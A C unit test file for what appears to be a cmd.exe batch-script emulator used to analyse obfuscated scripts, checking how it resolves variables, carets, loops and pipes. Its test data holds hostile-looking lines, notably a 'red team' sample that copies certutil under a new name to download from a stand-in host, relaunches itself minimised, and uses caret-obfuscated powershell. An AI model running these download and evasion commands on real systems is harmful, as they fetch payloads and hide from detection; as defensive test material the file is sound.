/* test_batch.c - what batch files and lines for cmd.exe do: a case is a text and all acts of it. */
#include "batch/batch.h"

#include "base/buf.h"
#include "base/mem.h"

#include <stdlib.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

struct heard {
    struct hn_buf acts;
    struct hn_buf others;
};

static void on_act(void *ctx, const struct script_act *act)
{
    struct heard *heard = ctx;

    hn_buf_add_cstr(&heard->acts, script_act_id(act->kind));
    hn_buf_add_char(&heard->acts, ' ');
    if (act->field_count > 0) /* not when memory ended on the way */
        hn_buf_add(&heard->acts, act->fields[0].value->ptr, act->fields[0].value->len);
    hn_buf_add_cstr(&heard->acts, act->conditional ? " ?\n" : "\n");
}

static void on_layer(void *ctx, const struct script_layer *layer)
{
    struct heard *heard = ctx;

    hn_buf_addf(&heard->others, "layer %s ", script_language_id(layer->language));
    hn_buf_add(&heard->others, layer->text->ptr, layer->text->len);
    hn_buf_add_char(&heard->others, '\n');
}

static void on_note(void *ctx, enum script_note_kind kind, uint64_t offset, struct hn_text detail)
{
    struct heard *heard = ctx;

    (void)offset;
    hn_buf_addf(&heard->others, "note %s ", script_note_id(kind));
    hn_buf_add_text(&heard->others, detail);
    hn_buf_add_char(&heard->others, '\n');
}

static enum hn_status evaluate(
        enum script_language language, struct hn_text text, uint64_t steps, struct heard *heard)
{
    struct script_sink sink = { heard, on_act, on_layer, NULL, on_note, NULL };
    struct script_part part = { .text = text };
    struct script_source source = { .language = language, .parts = &part, .part_count = 1 };
    struct script_limits limits = script_limits_default;
    struct script_run run;
    enum hn_status status;

    *heard = (struct heard){ 0 };
    limits.steps_max = steps;
    script_run_init(&run, &limits, &sink);
    status = batch_evaluate(&run, &source, NULL);
    assert_true(run.steps <= steps);
    assert_false(run.conditional);
    script_run_deinit(&run);
    return status;
}

static void done(struct heard *heard)
{
    hn_buf_deinit(&heard->acts);
    hn_buf_deinit(&heard->others);
}

struct line_case {
    const char *text;
    const char *acts;  /* all of them */
    const char *other; /* part of what else is told; may be NULL */
};

static const struct line_case cases[] = {
    /* Variables and their parts. */
    { "set x=cmd1\n%x% /a\n", "process cmd1 /a\n", "layer command cmd1 /a" },
    { "set a=abcdef\nrun %a:~1,3% %a:~-2% %a:~0,-4% %a:~2%\n", "process run bcd ef ab cdef\n",
            "note obfuscation substring" },
    { "set a=hXeXlXlXo\n%a:X=% x\n", "process hello x\n", NULL },
    { "set a=one two\nrun %a:*e =%\n", "process run two\n", NULL },
    { "run %comspec:~0,1%%PATHEXT:~1,1%\n", "process run CC\n", NULL },
    { "run %nothing% 100%% %\n", "process run  100%\n", NULL },
    { "set \"q=a b\" trash\nrun \"%q%\"\n", "process run \"a b\"\n", NULL },
    { "set s=x\nset s=%s%y\nset s=%s%z\nrun %s%\n", "process run xyz\n", NULL },
    { "run %random% %USERNAME%\n", "process run {random} {USERNAME}\n", NULL },
    /* Carets, quotes, operators. */
    { "p^ow^er^sh^el^l -c ^\"x^\"\n", "process powershell -c \"x\"\n", NULL },
    { "a1 & b1 && c1 || d1\n", "process a1\nprocess b1\nprocess c1\nprocess d1\n", NULL },
    { "a1 \"x & y\" ^& z\n", "process a1 \"x & y\" & z\n", NULL },
    { "a1 one ^\ntwo\n", "process a1 one two\n", NULL },
    { "@echo off\n@a1\n;,= b1\n", "process a1\nprocess b1\n", NULL },
    { "(\na1\nb1 & c1\n) & d1\n", "process a1\nprocess b1\nprocess c1\nprocess d1\n", NULL },
    /* If. */
    { "if \"a\"==\"a\" a1\nif a==b b1\nif not a==b (c1) else d1\n", "process a1\nprocess c1\n",
            NULL },
    { "set x=1\nif defined x a1\nif not defined y b1\nif defined y c1\n",
            "process a1\nprocess b1\n", NULL },
    { "if /i A==a a1\nif 5 GTR 3 b1\nif 5 LSS 3 c1\nif 10 GEQ 9 d1\n",
            "process a1\nprocess b1\nprocess d1\n", NULL },
    { "if exist x (a1) else (b1)\nc1\n", "process a1 ?\nprocess b1 ?\nprocess c1\n",
            "note both_branches" },
    /* Goto, call. */
    { "goto there\na1\n:there\nb1\ngoto :eof\nc1\n", "process b1\n", NULL },
    { "if exist x goto rare\na1\nexit /b\n:rare\nb1\n", "process a1\nprocess b1 ?\n", NULL },
    { "call :f one \"two\"\ncall :f 3\nexit /b\n:f\nrun %1 %~2 %*\ngoto :eof\n",
            "process run one two one \"two\"\nprocess run 3  3\n", NULL },
    { "set a=b\nset b=calc1\ncall run %%%a%%%\n", "process run calc1\n", NULL },
    { "set n=0\n:l\nset /a n+=1\nif %n% LSS 3 goto l\nrun %n%\n", "process run 3\n", NULL },
    /* Arithmetic. */
    { "set /a x=(2+3)*4-10/3, y=x%%7, z=0x10^^1\nrun %x% %y% %z%\n", "process run 17 3 17\n",
            NULL },
    { "set /a \"x=1<<4|3\", \"y=-x\"\nrun %x% %y%\n", "process run 19 -19\n", NULL },
    /* For. */
    { "for %%i in (a1 b1) do %%i x\n", "process a1 x\nprocess b1 x\n", NULL },
    { "for /l %%i in (1,2,5) do run %%i\n", "process run 1\nprocess run 3\nprocess run 5\n", NULL },
    { "for /f \"tokens=2,3 delims=,\" %%a in (\"x,y,z\") do run %%a %%b\n", "process run y z\n",
            NULL },
    { "for /f \"tokens=1*\" %%a in (\"one two three\") do run %%b %%a\n",
            "process run two three one\n", NULL },
    { "for /f %%a in ('echo known') do run %%a\n", "process run known\n", NULL },
    { "for /f %%a in ('whoami /all') do run %%a\n",
            "process whoami /all\nprocess run {output of whoami /all}\n", NULL },
    { "for %%f in (C:\\d\\n.ext) do run %%~nxf %%~nf %%~xf\n", "process run n.ext n .ext\n", NULL },
    /* Delayed expansion. */
    { "setlocal EnableDelayedExpansion\nset s=\nfor %%i in (p o w) do set s=!s!%%i\nrun !s!\n",
            "process run pow\n", NULL },
    { "setlocal enabledelayedexpansion\nset t=abcdef\nfor /l %%i in (5,-1,0) do set "
      "r=!r!!t:~%%i,1!\n"
      "run !r!\n",
            "process run fedcba\n", NULL },
    { "cmd /v:on /c \"set x=calc1&&!x! a\"\n",
            "process cmd /v:on /c \"set x=calc1&&!x! a\"\nprocess calc1 a\n", NULL },
    { "cmd /c \"a1 & b1\"\n", "process cmd /c \"a1 & b1\"\nprocess a1\nprocess b1\n", NULL },
    /* Files and pipes. */
    { "echo x1 > f.vbs\necho x2>>f.vbs\nwscript f.vbs\n",
            "process wscript f.vbs\nfile_write f.vbs\n", "layer vbscript x1 \r\nx2\r\n" },
    { "(\necho @echo off\necho dir\n) > a.bat\n", "file_write a.bat\n",
            "layer batch @echo off\r\ndir\r\n" },
    { "echo iex 1 | powershell -\n", "process powershell -\n", "layer powershell iex 1" },
    { "echo a1 b | cmd\n", "process cmd\nprocess a1 b\n", NULL },
    { "a1 > nul 2>&1\n", "process a1\n", NULL },
    { "copy /y a b\ndel /q c d\n", "file_read a\nfile_write b\nfile_delete c\nfile_delete d\n",
            NULL },
    { "start \"\" /b /min a1 x\n", "process a1 x\n", "note evasion hidden window" },
};

static void cases_do_what_they_say(void **state)
{
    unsigned failed = 0;

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct heard heard;
        bool good;

        assert_int_equal(
                evaluate(SCRIPT_BATCH, hn_text_cstr(cases[i].text), 100000, &heard), HN_OK);
        good = hn_text_eq(hn_buf_text(&heard.acts), hn_text_cstr(cases[i].acts)) &&
               (cases[i].other == NULL || hn_text_find(hn_buf_text(&heard.others),
                                                  hn_text_cstr(cases[i].other), 0) != SIZE_MAX);
        if (!good) {
            failed++;
            print_error("%s-> %.*s%.*s\n", cases[i].text, HN_TEXT_ARG(hn_buf_text(&heard.acts)),
                    HN_TEXT_ARG(hn_buf_text(&heard.others)));
        }
        done(&heard);
    }
    assert_int_equal(failed, 0);
}

/* Of a command line its own cmd.exe is told already; undefined variables stay. */
static void command_lines(void **state)
{
    struct heard heard;

    (void)state;
    assert_int_equal(
            evaluate(SCRIPT_COMMAND, HN_TEXT("cmd.exe /c set x=calc1& call %x% %none% & b1"),
                    100000, &heard),
            HN_OK);
    assert_true(hn_text_find(hn_buf_text(&heard.acts), HN_TEXT("process cmd"), 0) == SIZE_MAX);
    assert_true(hn_text_find(hn_buf_text(&heard.acts), HN_TEXT("calc1 %none%"), 0) != SIZE_MAX);
    assert_true(hn_text_find(hn_buf_text(&heard.acts), HN_TEXT("process b1\n"), 0) != SIZE_MAX);
    done(&heard);
}

/* Every prefix of all cases, loops without end, failing memory. */
static void hostile_source_ends(void **state)
{
    struct hn_buf all = { 0 };
    struct heard heard;
    uint64_t count;

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        hn_buf_add_cstr(&all, cases[i].text);
    for (size_t len = 0; len < all.len; len++) {
        assert_int_equal(
                evaluate(SCRIPT_BATCH, hn_text_sub(hn_buf_text(&all), all.len - len, SIZE_MAX),
                        4000, &heard),
                HN_OK);
        done(&heard);
        assert_int_equal(
                evaluate(SCRIPT_COMMAND, hn_text_sub(hn_buf_text(&all), 0, len), 4000, &heard),
                HN_OK);
        done(&heard);
    }
    hn_buf_reset(&all);
    for (int i = 0; i < 5000; i++)
        hn_buf_add_lit(&all, "(if a==a ");
    assert_int_equal(evaluate(SCRIPT_BATCH, hn_buf_text(&all), 100000, &heard), HN_OK);
    done(&heard);
    hn_buf_deinit(&all);
    assert_int_equal(
            evaluate(SCRIPT_BATCH,
                    HN_TEXT(":l\nset x=%x%%x%a\ncall :l\ngoto l\nfor /l %%i in (1,0,2) do a1\n"),
                    100000, &heard),
            HN_OK);
    done(&heard);
    hn_mem_fail_from(1u << 30);
    assert_int_equal(evaluate(SCRIPT_BATCH, hn_text_cstr(cases[20].text), 10000, &heard), HN_OK);
    count = (1u << 30) - hn_mem_fail_left();
    hn_mem_fail_from(0);
    done(&heard);
    for (uint64_t n = 1; n <= count; n++) {
        enum hn_status status;

        hn_mem_fail_from(n);
        status = evaluate(SCRIPT_BATCH, hn_text_cstr(cases[20].text), 10000, &heard);
        hn_mem_fail_from(0);
        assert_true(status == HN_OK || status == HN_NOMEM);
        done(&heard);
    }
}

/* What a red team wrote: copies, files that start themselves, lines that fit, lists cut in pieces.
 */
static const char whole[] =
        "@echo off\r\ncopy C:\\Windows\\System32\\certutil.exe \"%tmp%\\a b.exe\" /y >nul\r\n"
        ">>f.txt (\r\necho abc one\r\necho xyz two)\r\n"
        "for /f \"tokens=2 delims=f=\" %%a in ('assoc .cmd') do %%a /c \"echo 1&echo \"2\"\"\r\n"
        "findstr /i /r \"^ab.*e$ q\\.\" f.txt > g.txt & find /v \"one\" f.txt | clip\r\n"
        "for /f \"delims==\" %%i in ('set^|findstr PSM') do set v=%%i & set w=!v:~1!\r\n"
        "if \"%1\"==\"\" (start \"t\" /min ,\"%~f0\" go & exit /b) else shift\r\n"
        "\"%tmp%\\a b.exe\" -urlcache -f http://a.example/x y && goto e || ftype cmdfile\r\n"
        "c\"m\"d /v:on /c \"\"p\"q\" r\"\r\n:e\r\n";

static void every_beginning_is_harmless(void **state)
{
    struct heard heard;

    (void)state;
    for (size_t len = 0; len < sizeof whole; len++) {
        char *exact = malloc(len + 1);

        assert_non_null(exact);
        (void)memcpy(exact, whole, len);
        assert_int_equal(evaluate(SCRIPT_BATCH, hn_text_of(exact, len), 100000, &heard), HN_OK);
        done(&heard);
        free(exact);
    }
    (void)evaluate(SCRIPT_BATCH, hn_text_cstr(whole), 100000, &heard);
    assert_true(hn_text_find(hn_buf_text(&heard.others),
                        HN_TEXT("layer command certutil -urlcache -f http://a.example/x y"),
                        0) != SIZE_MAX);
    done(&heard);
}

static void failing_memory_is_survived(void **state)
{
    bool failed = true;

    (void)state;
    for (uint64_t n = 1; failed; n++) {
        struct heard heard;
        enum hn_status status;

        hn_mem_fail_from(n);
        status = evaluate(SCRIPT_BATCH, hn_text_cstr(whole), 100000, &heard);
        failed = hn_mem_fail_hits() > 0;
        hn_mem_fail_from(0);
        assert_true(status == HN_OK || status == HN_NOMEM);
        done(&heard);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(cases_do_what_they_say),
        cmocka_unit_test(command_lines),
        cmocka_unit_test(hostile_source_ends),
        cmocka_unit_test(every_beginning_is_harmless),
        cmocka_unit_test(failing_memory_is_survived),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
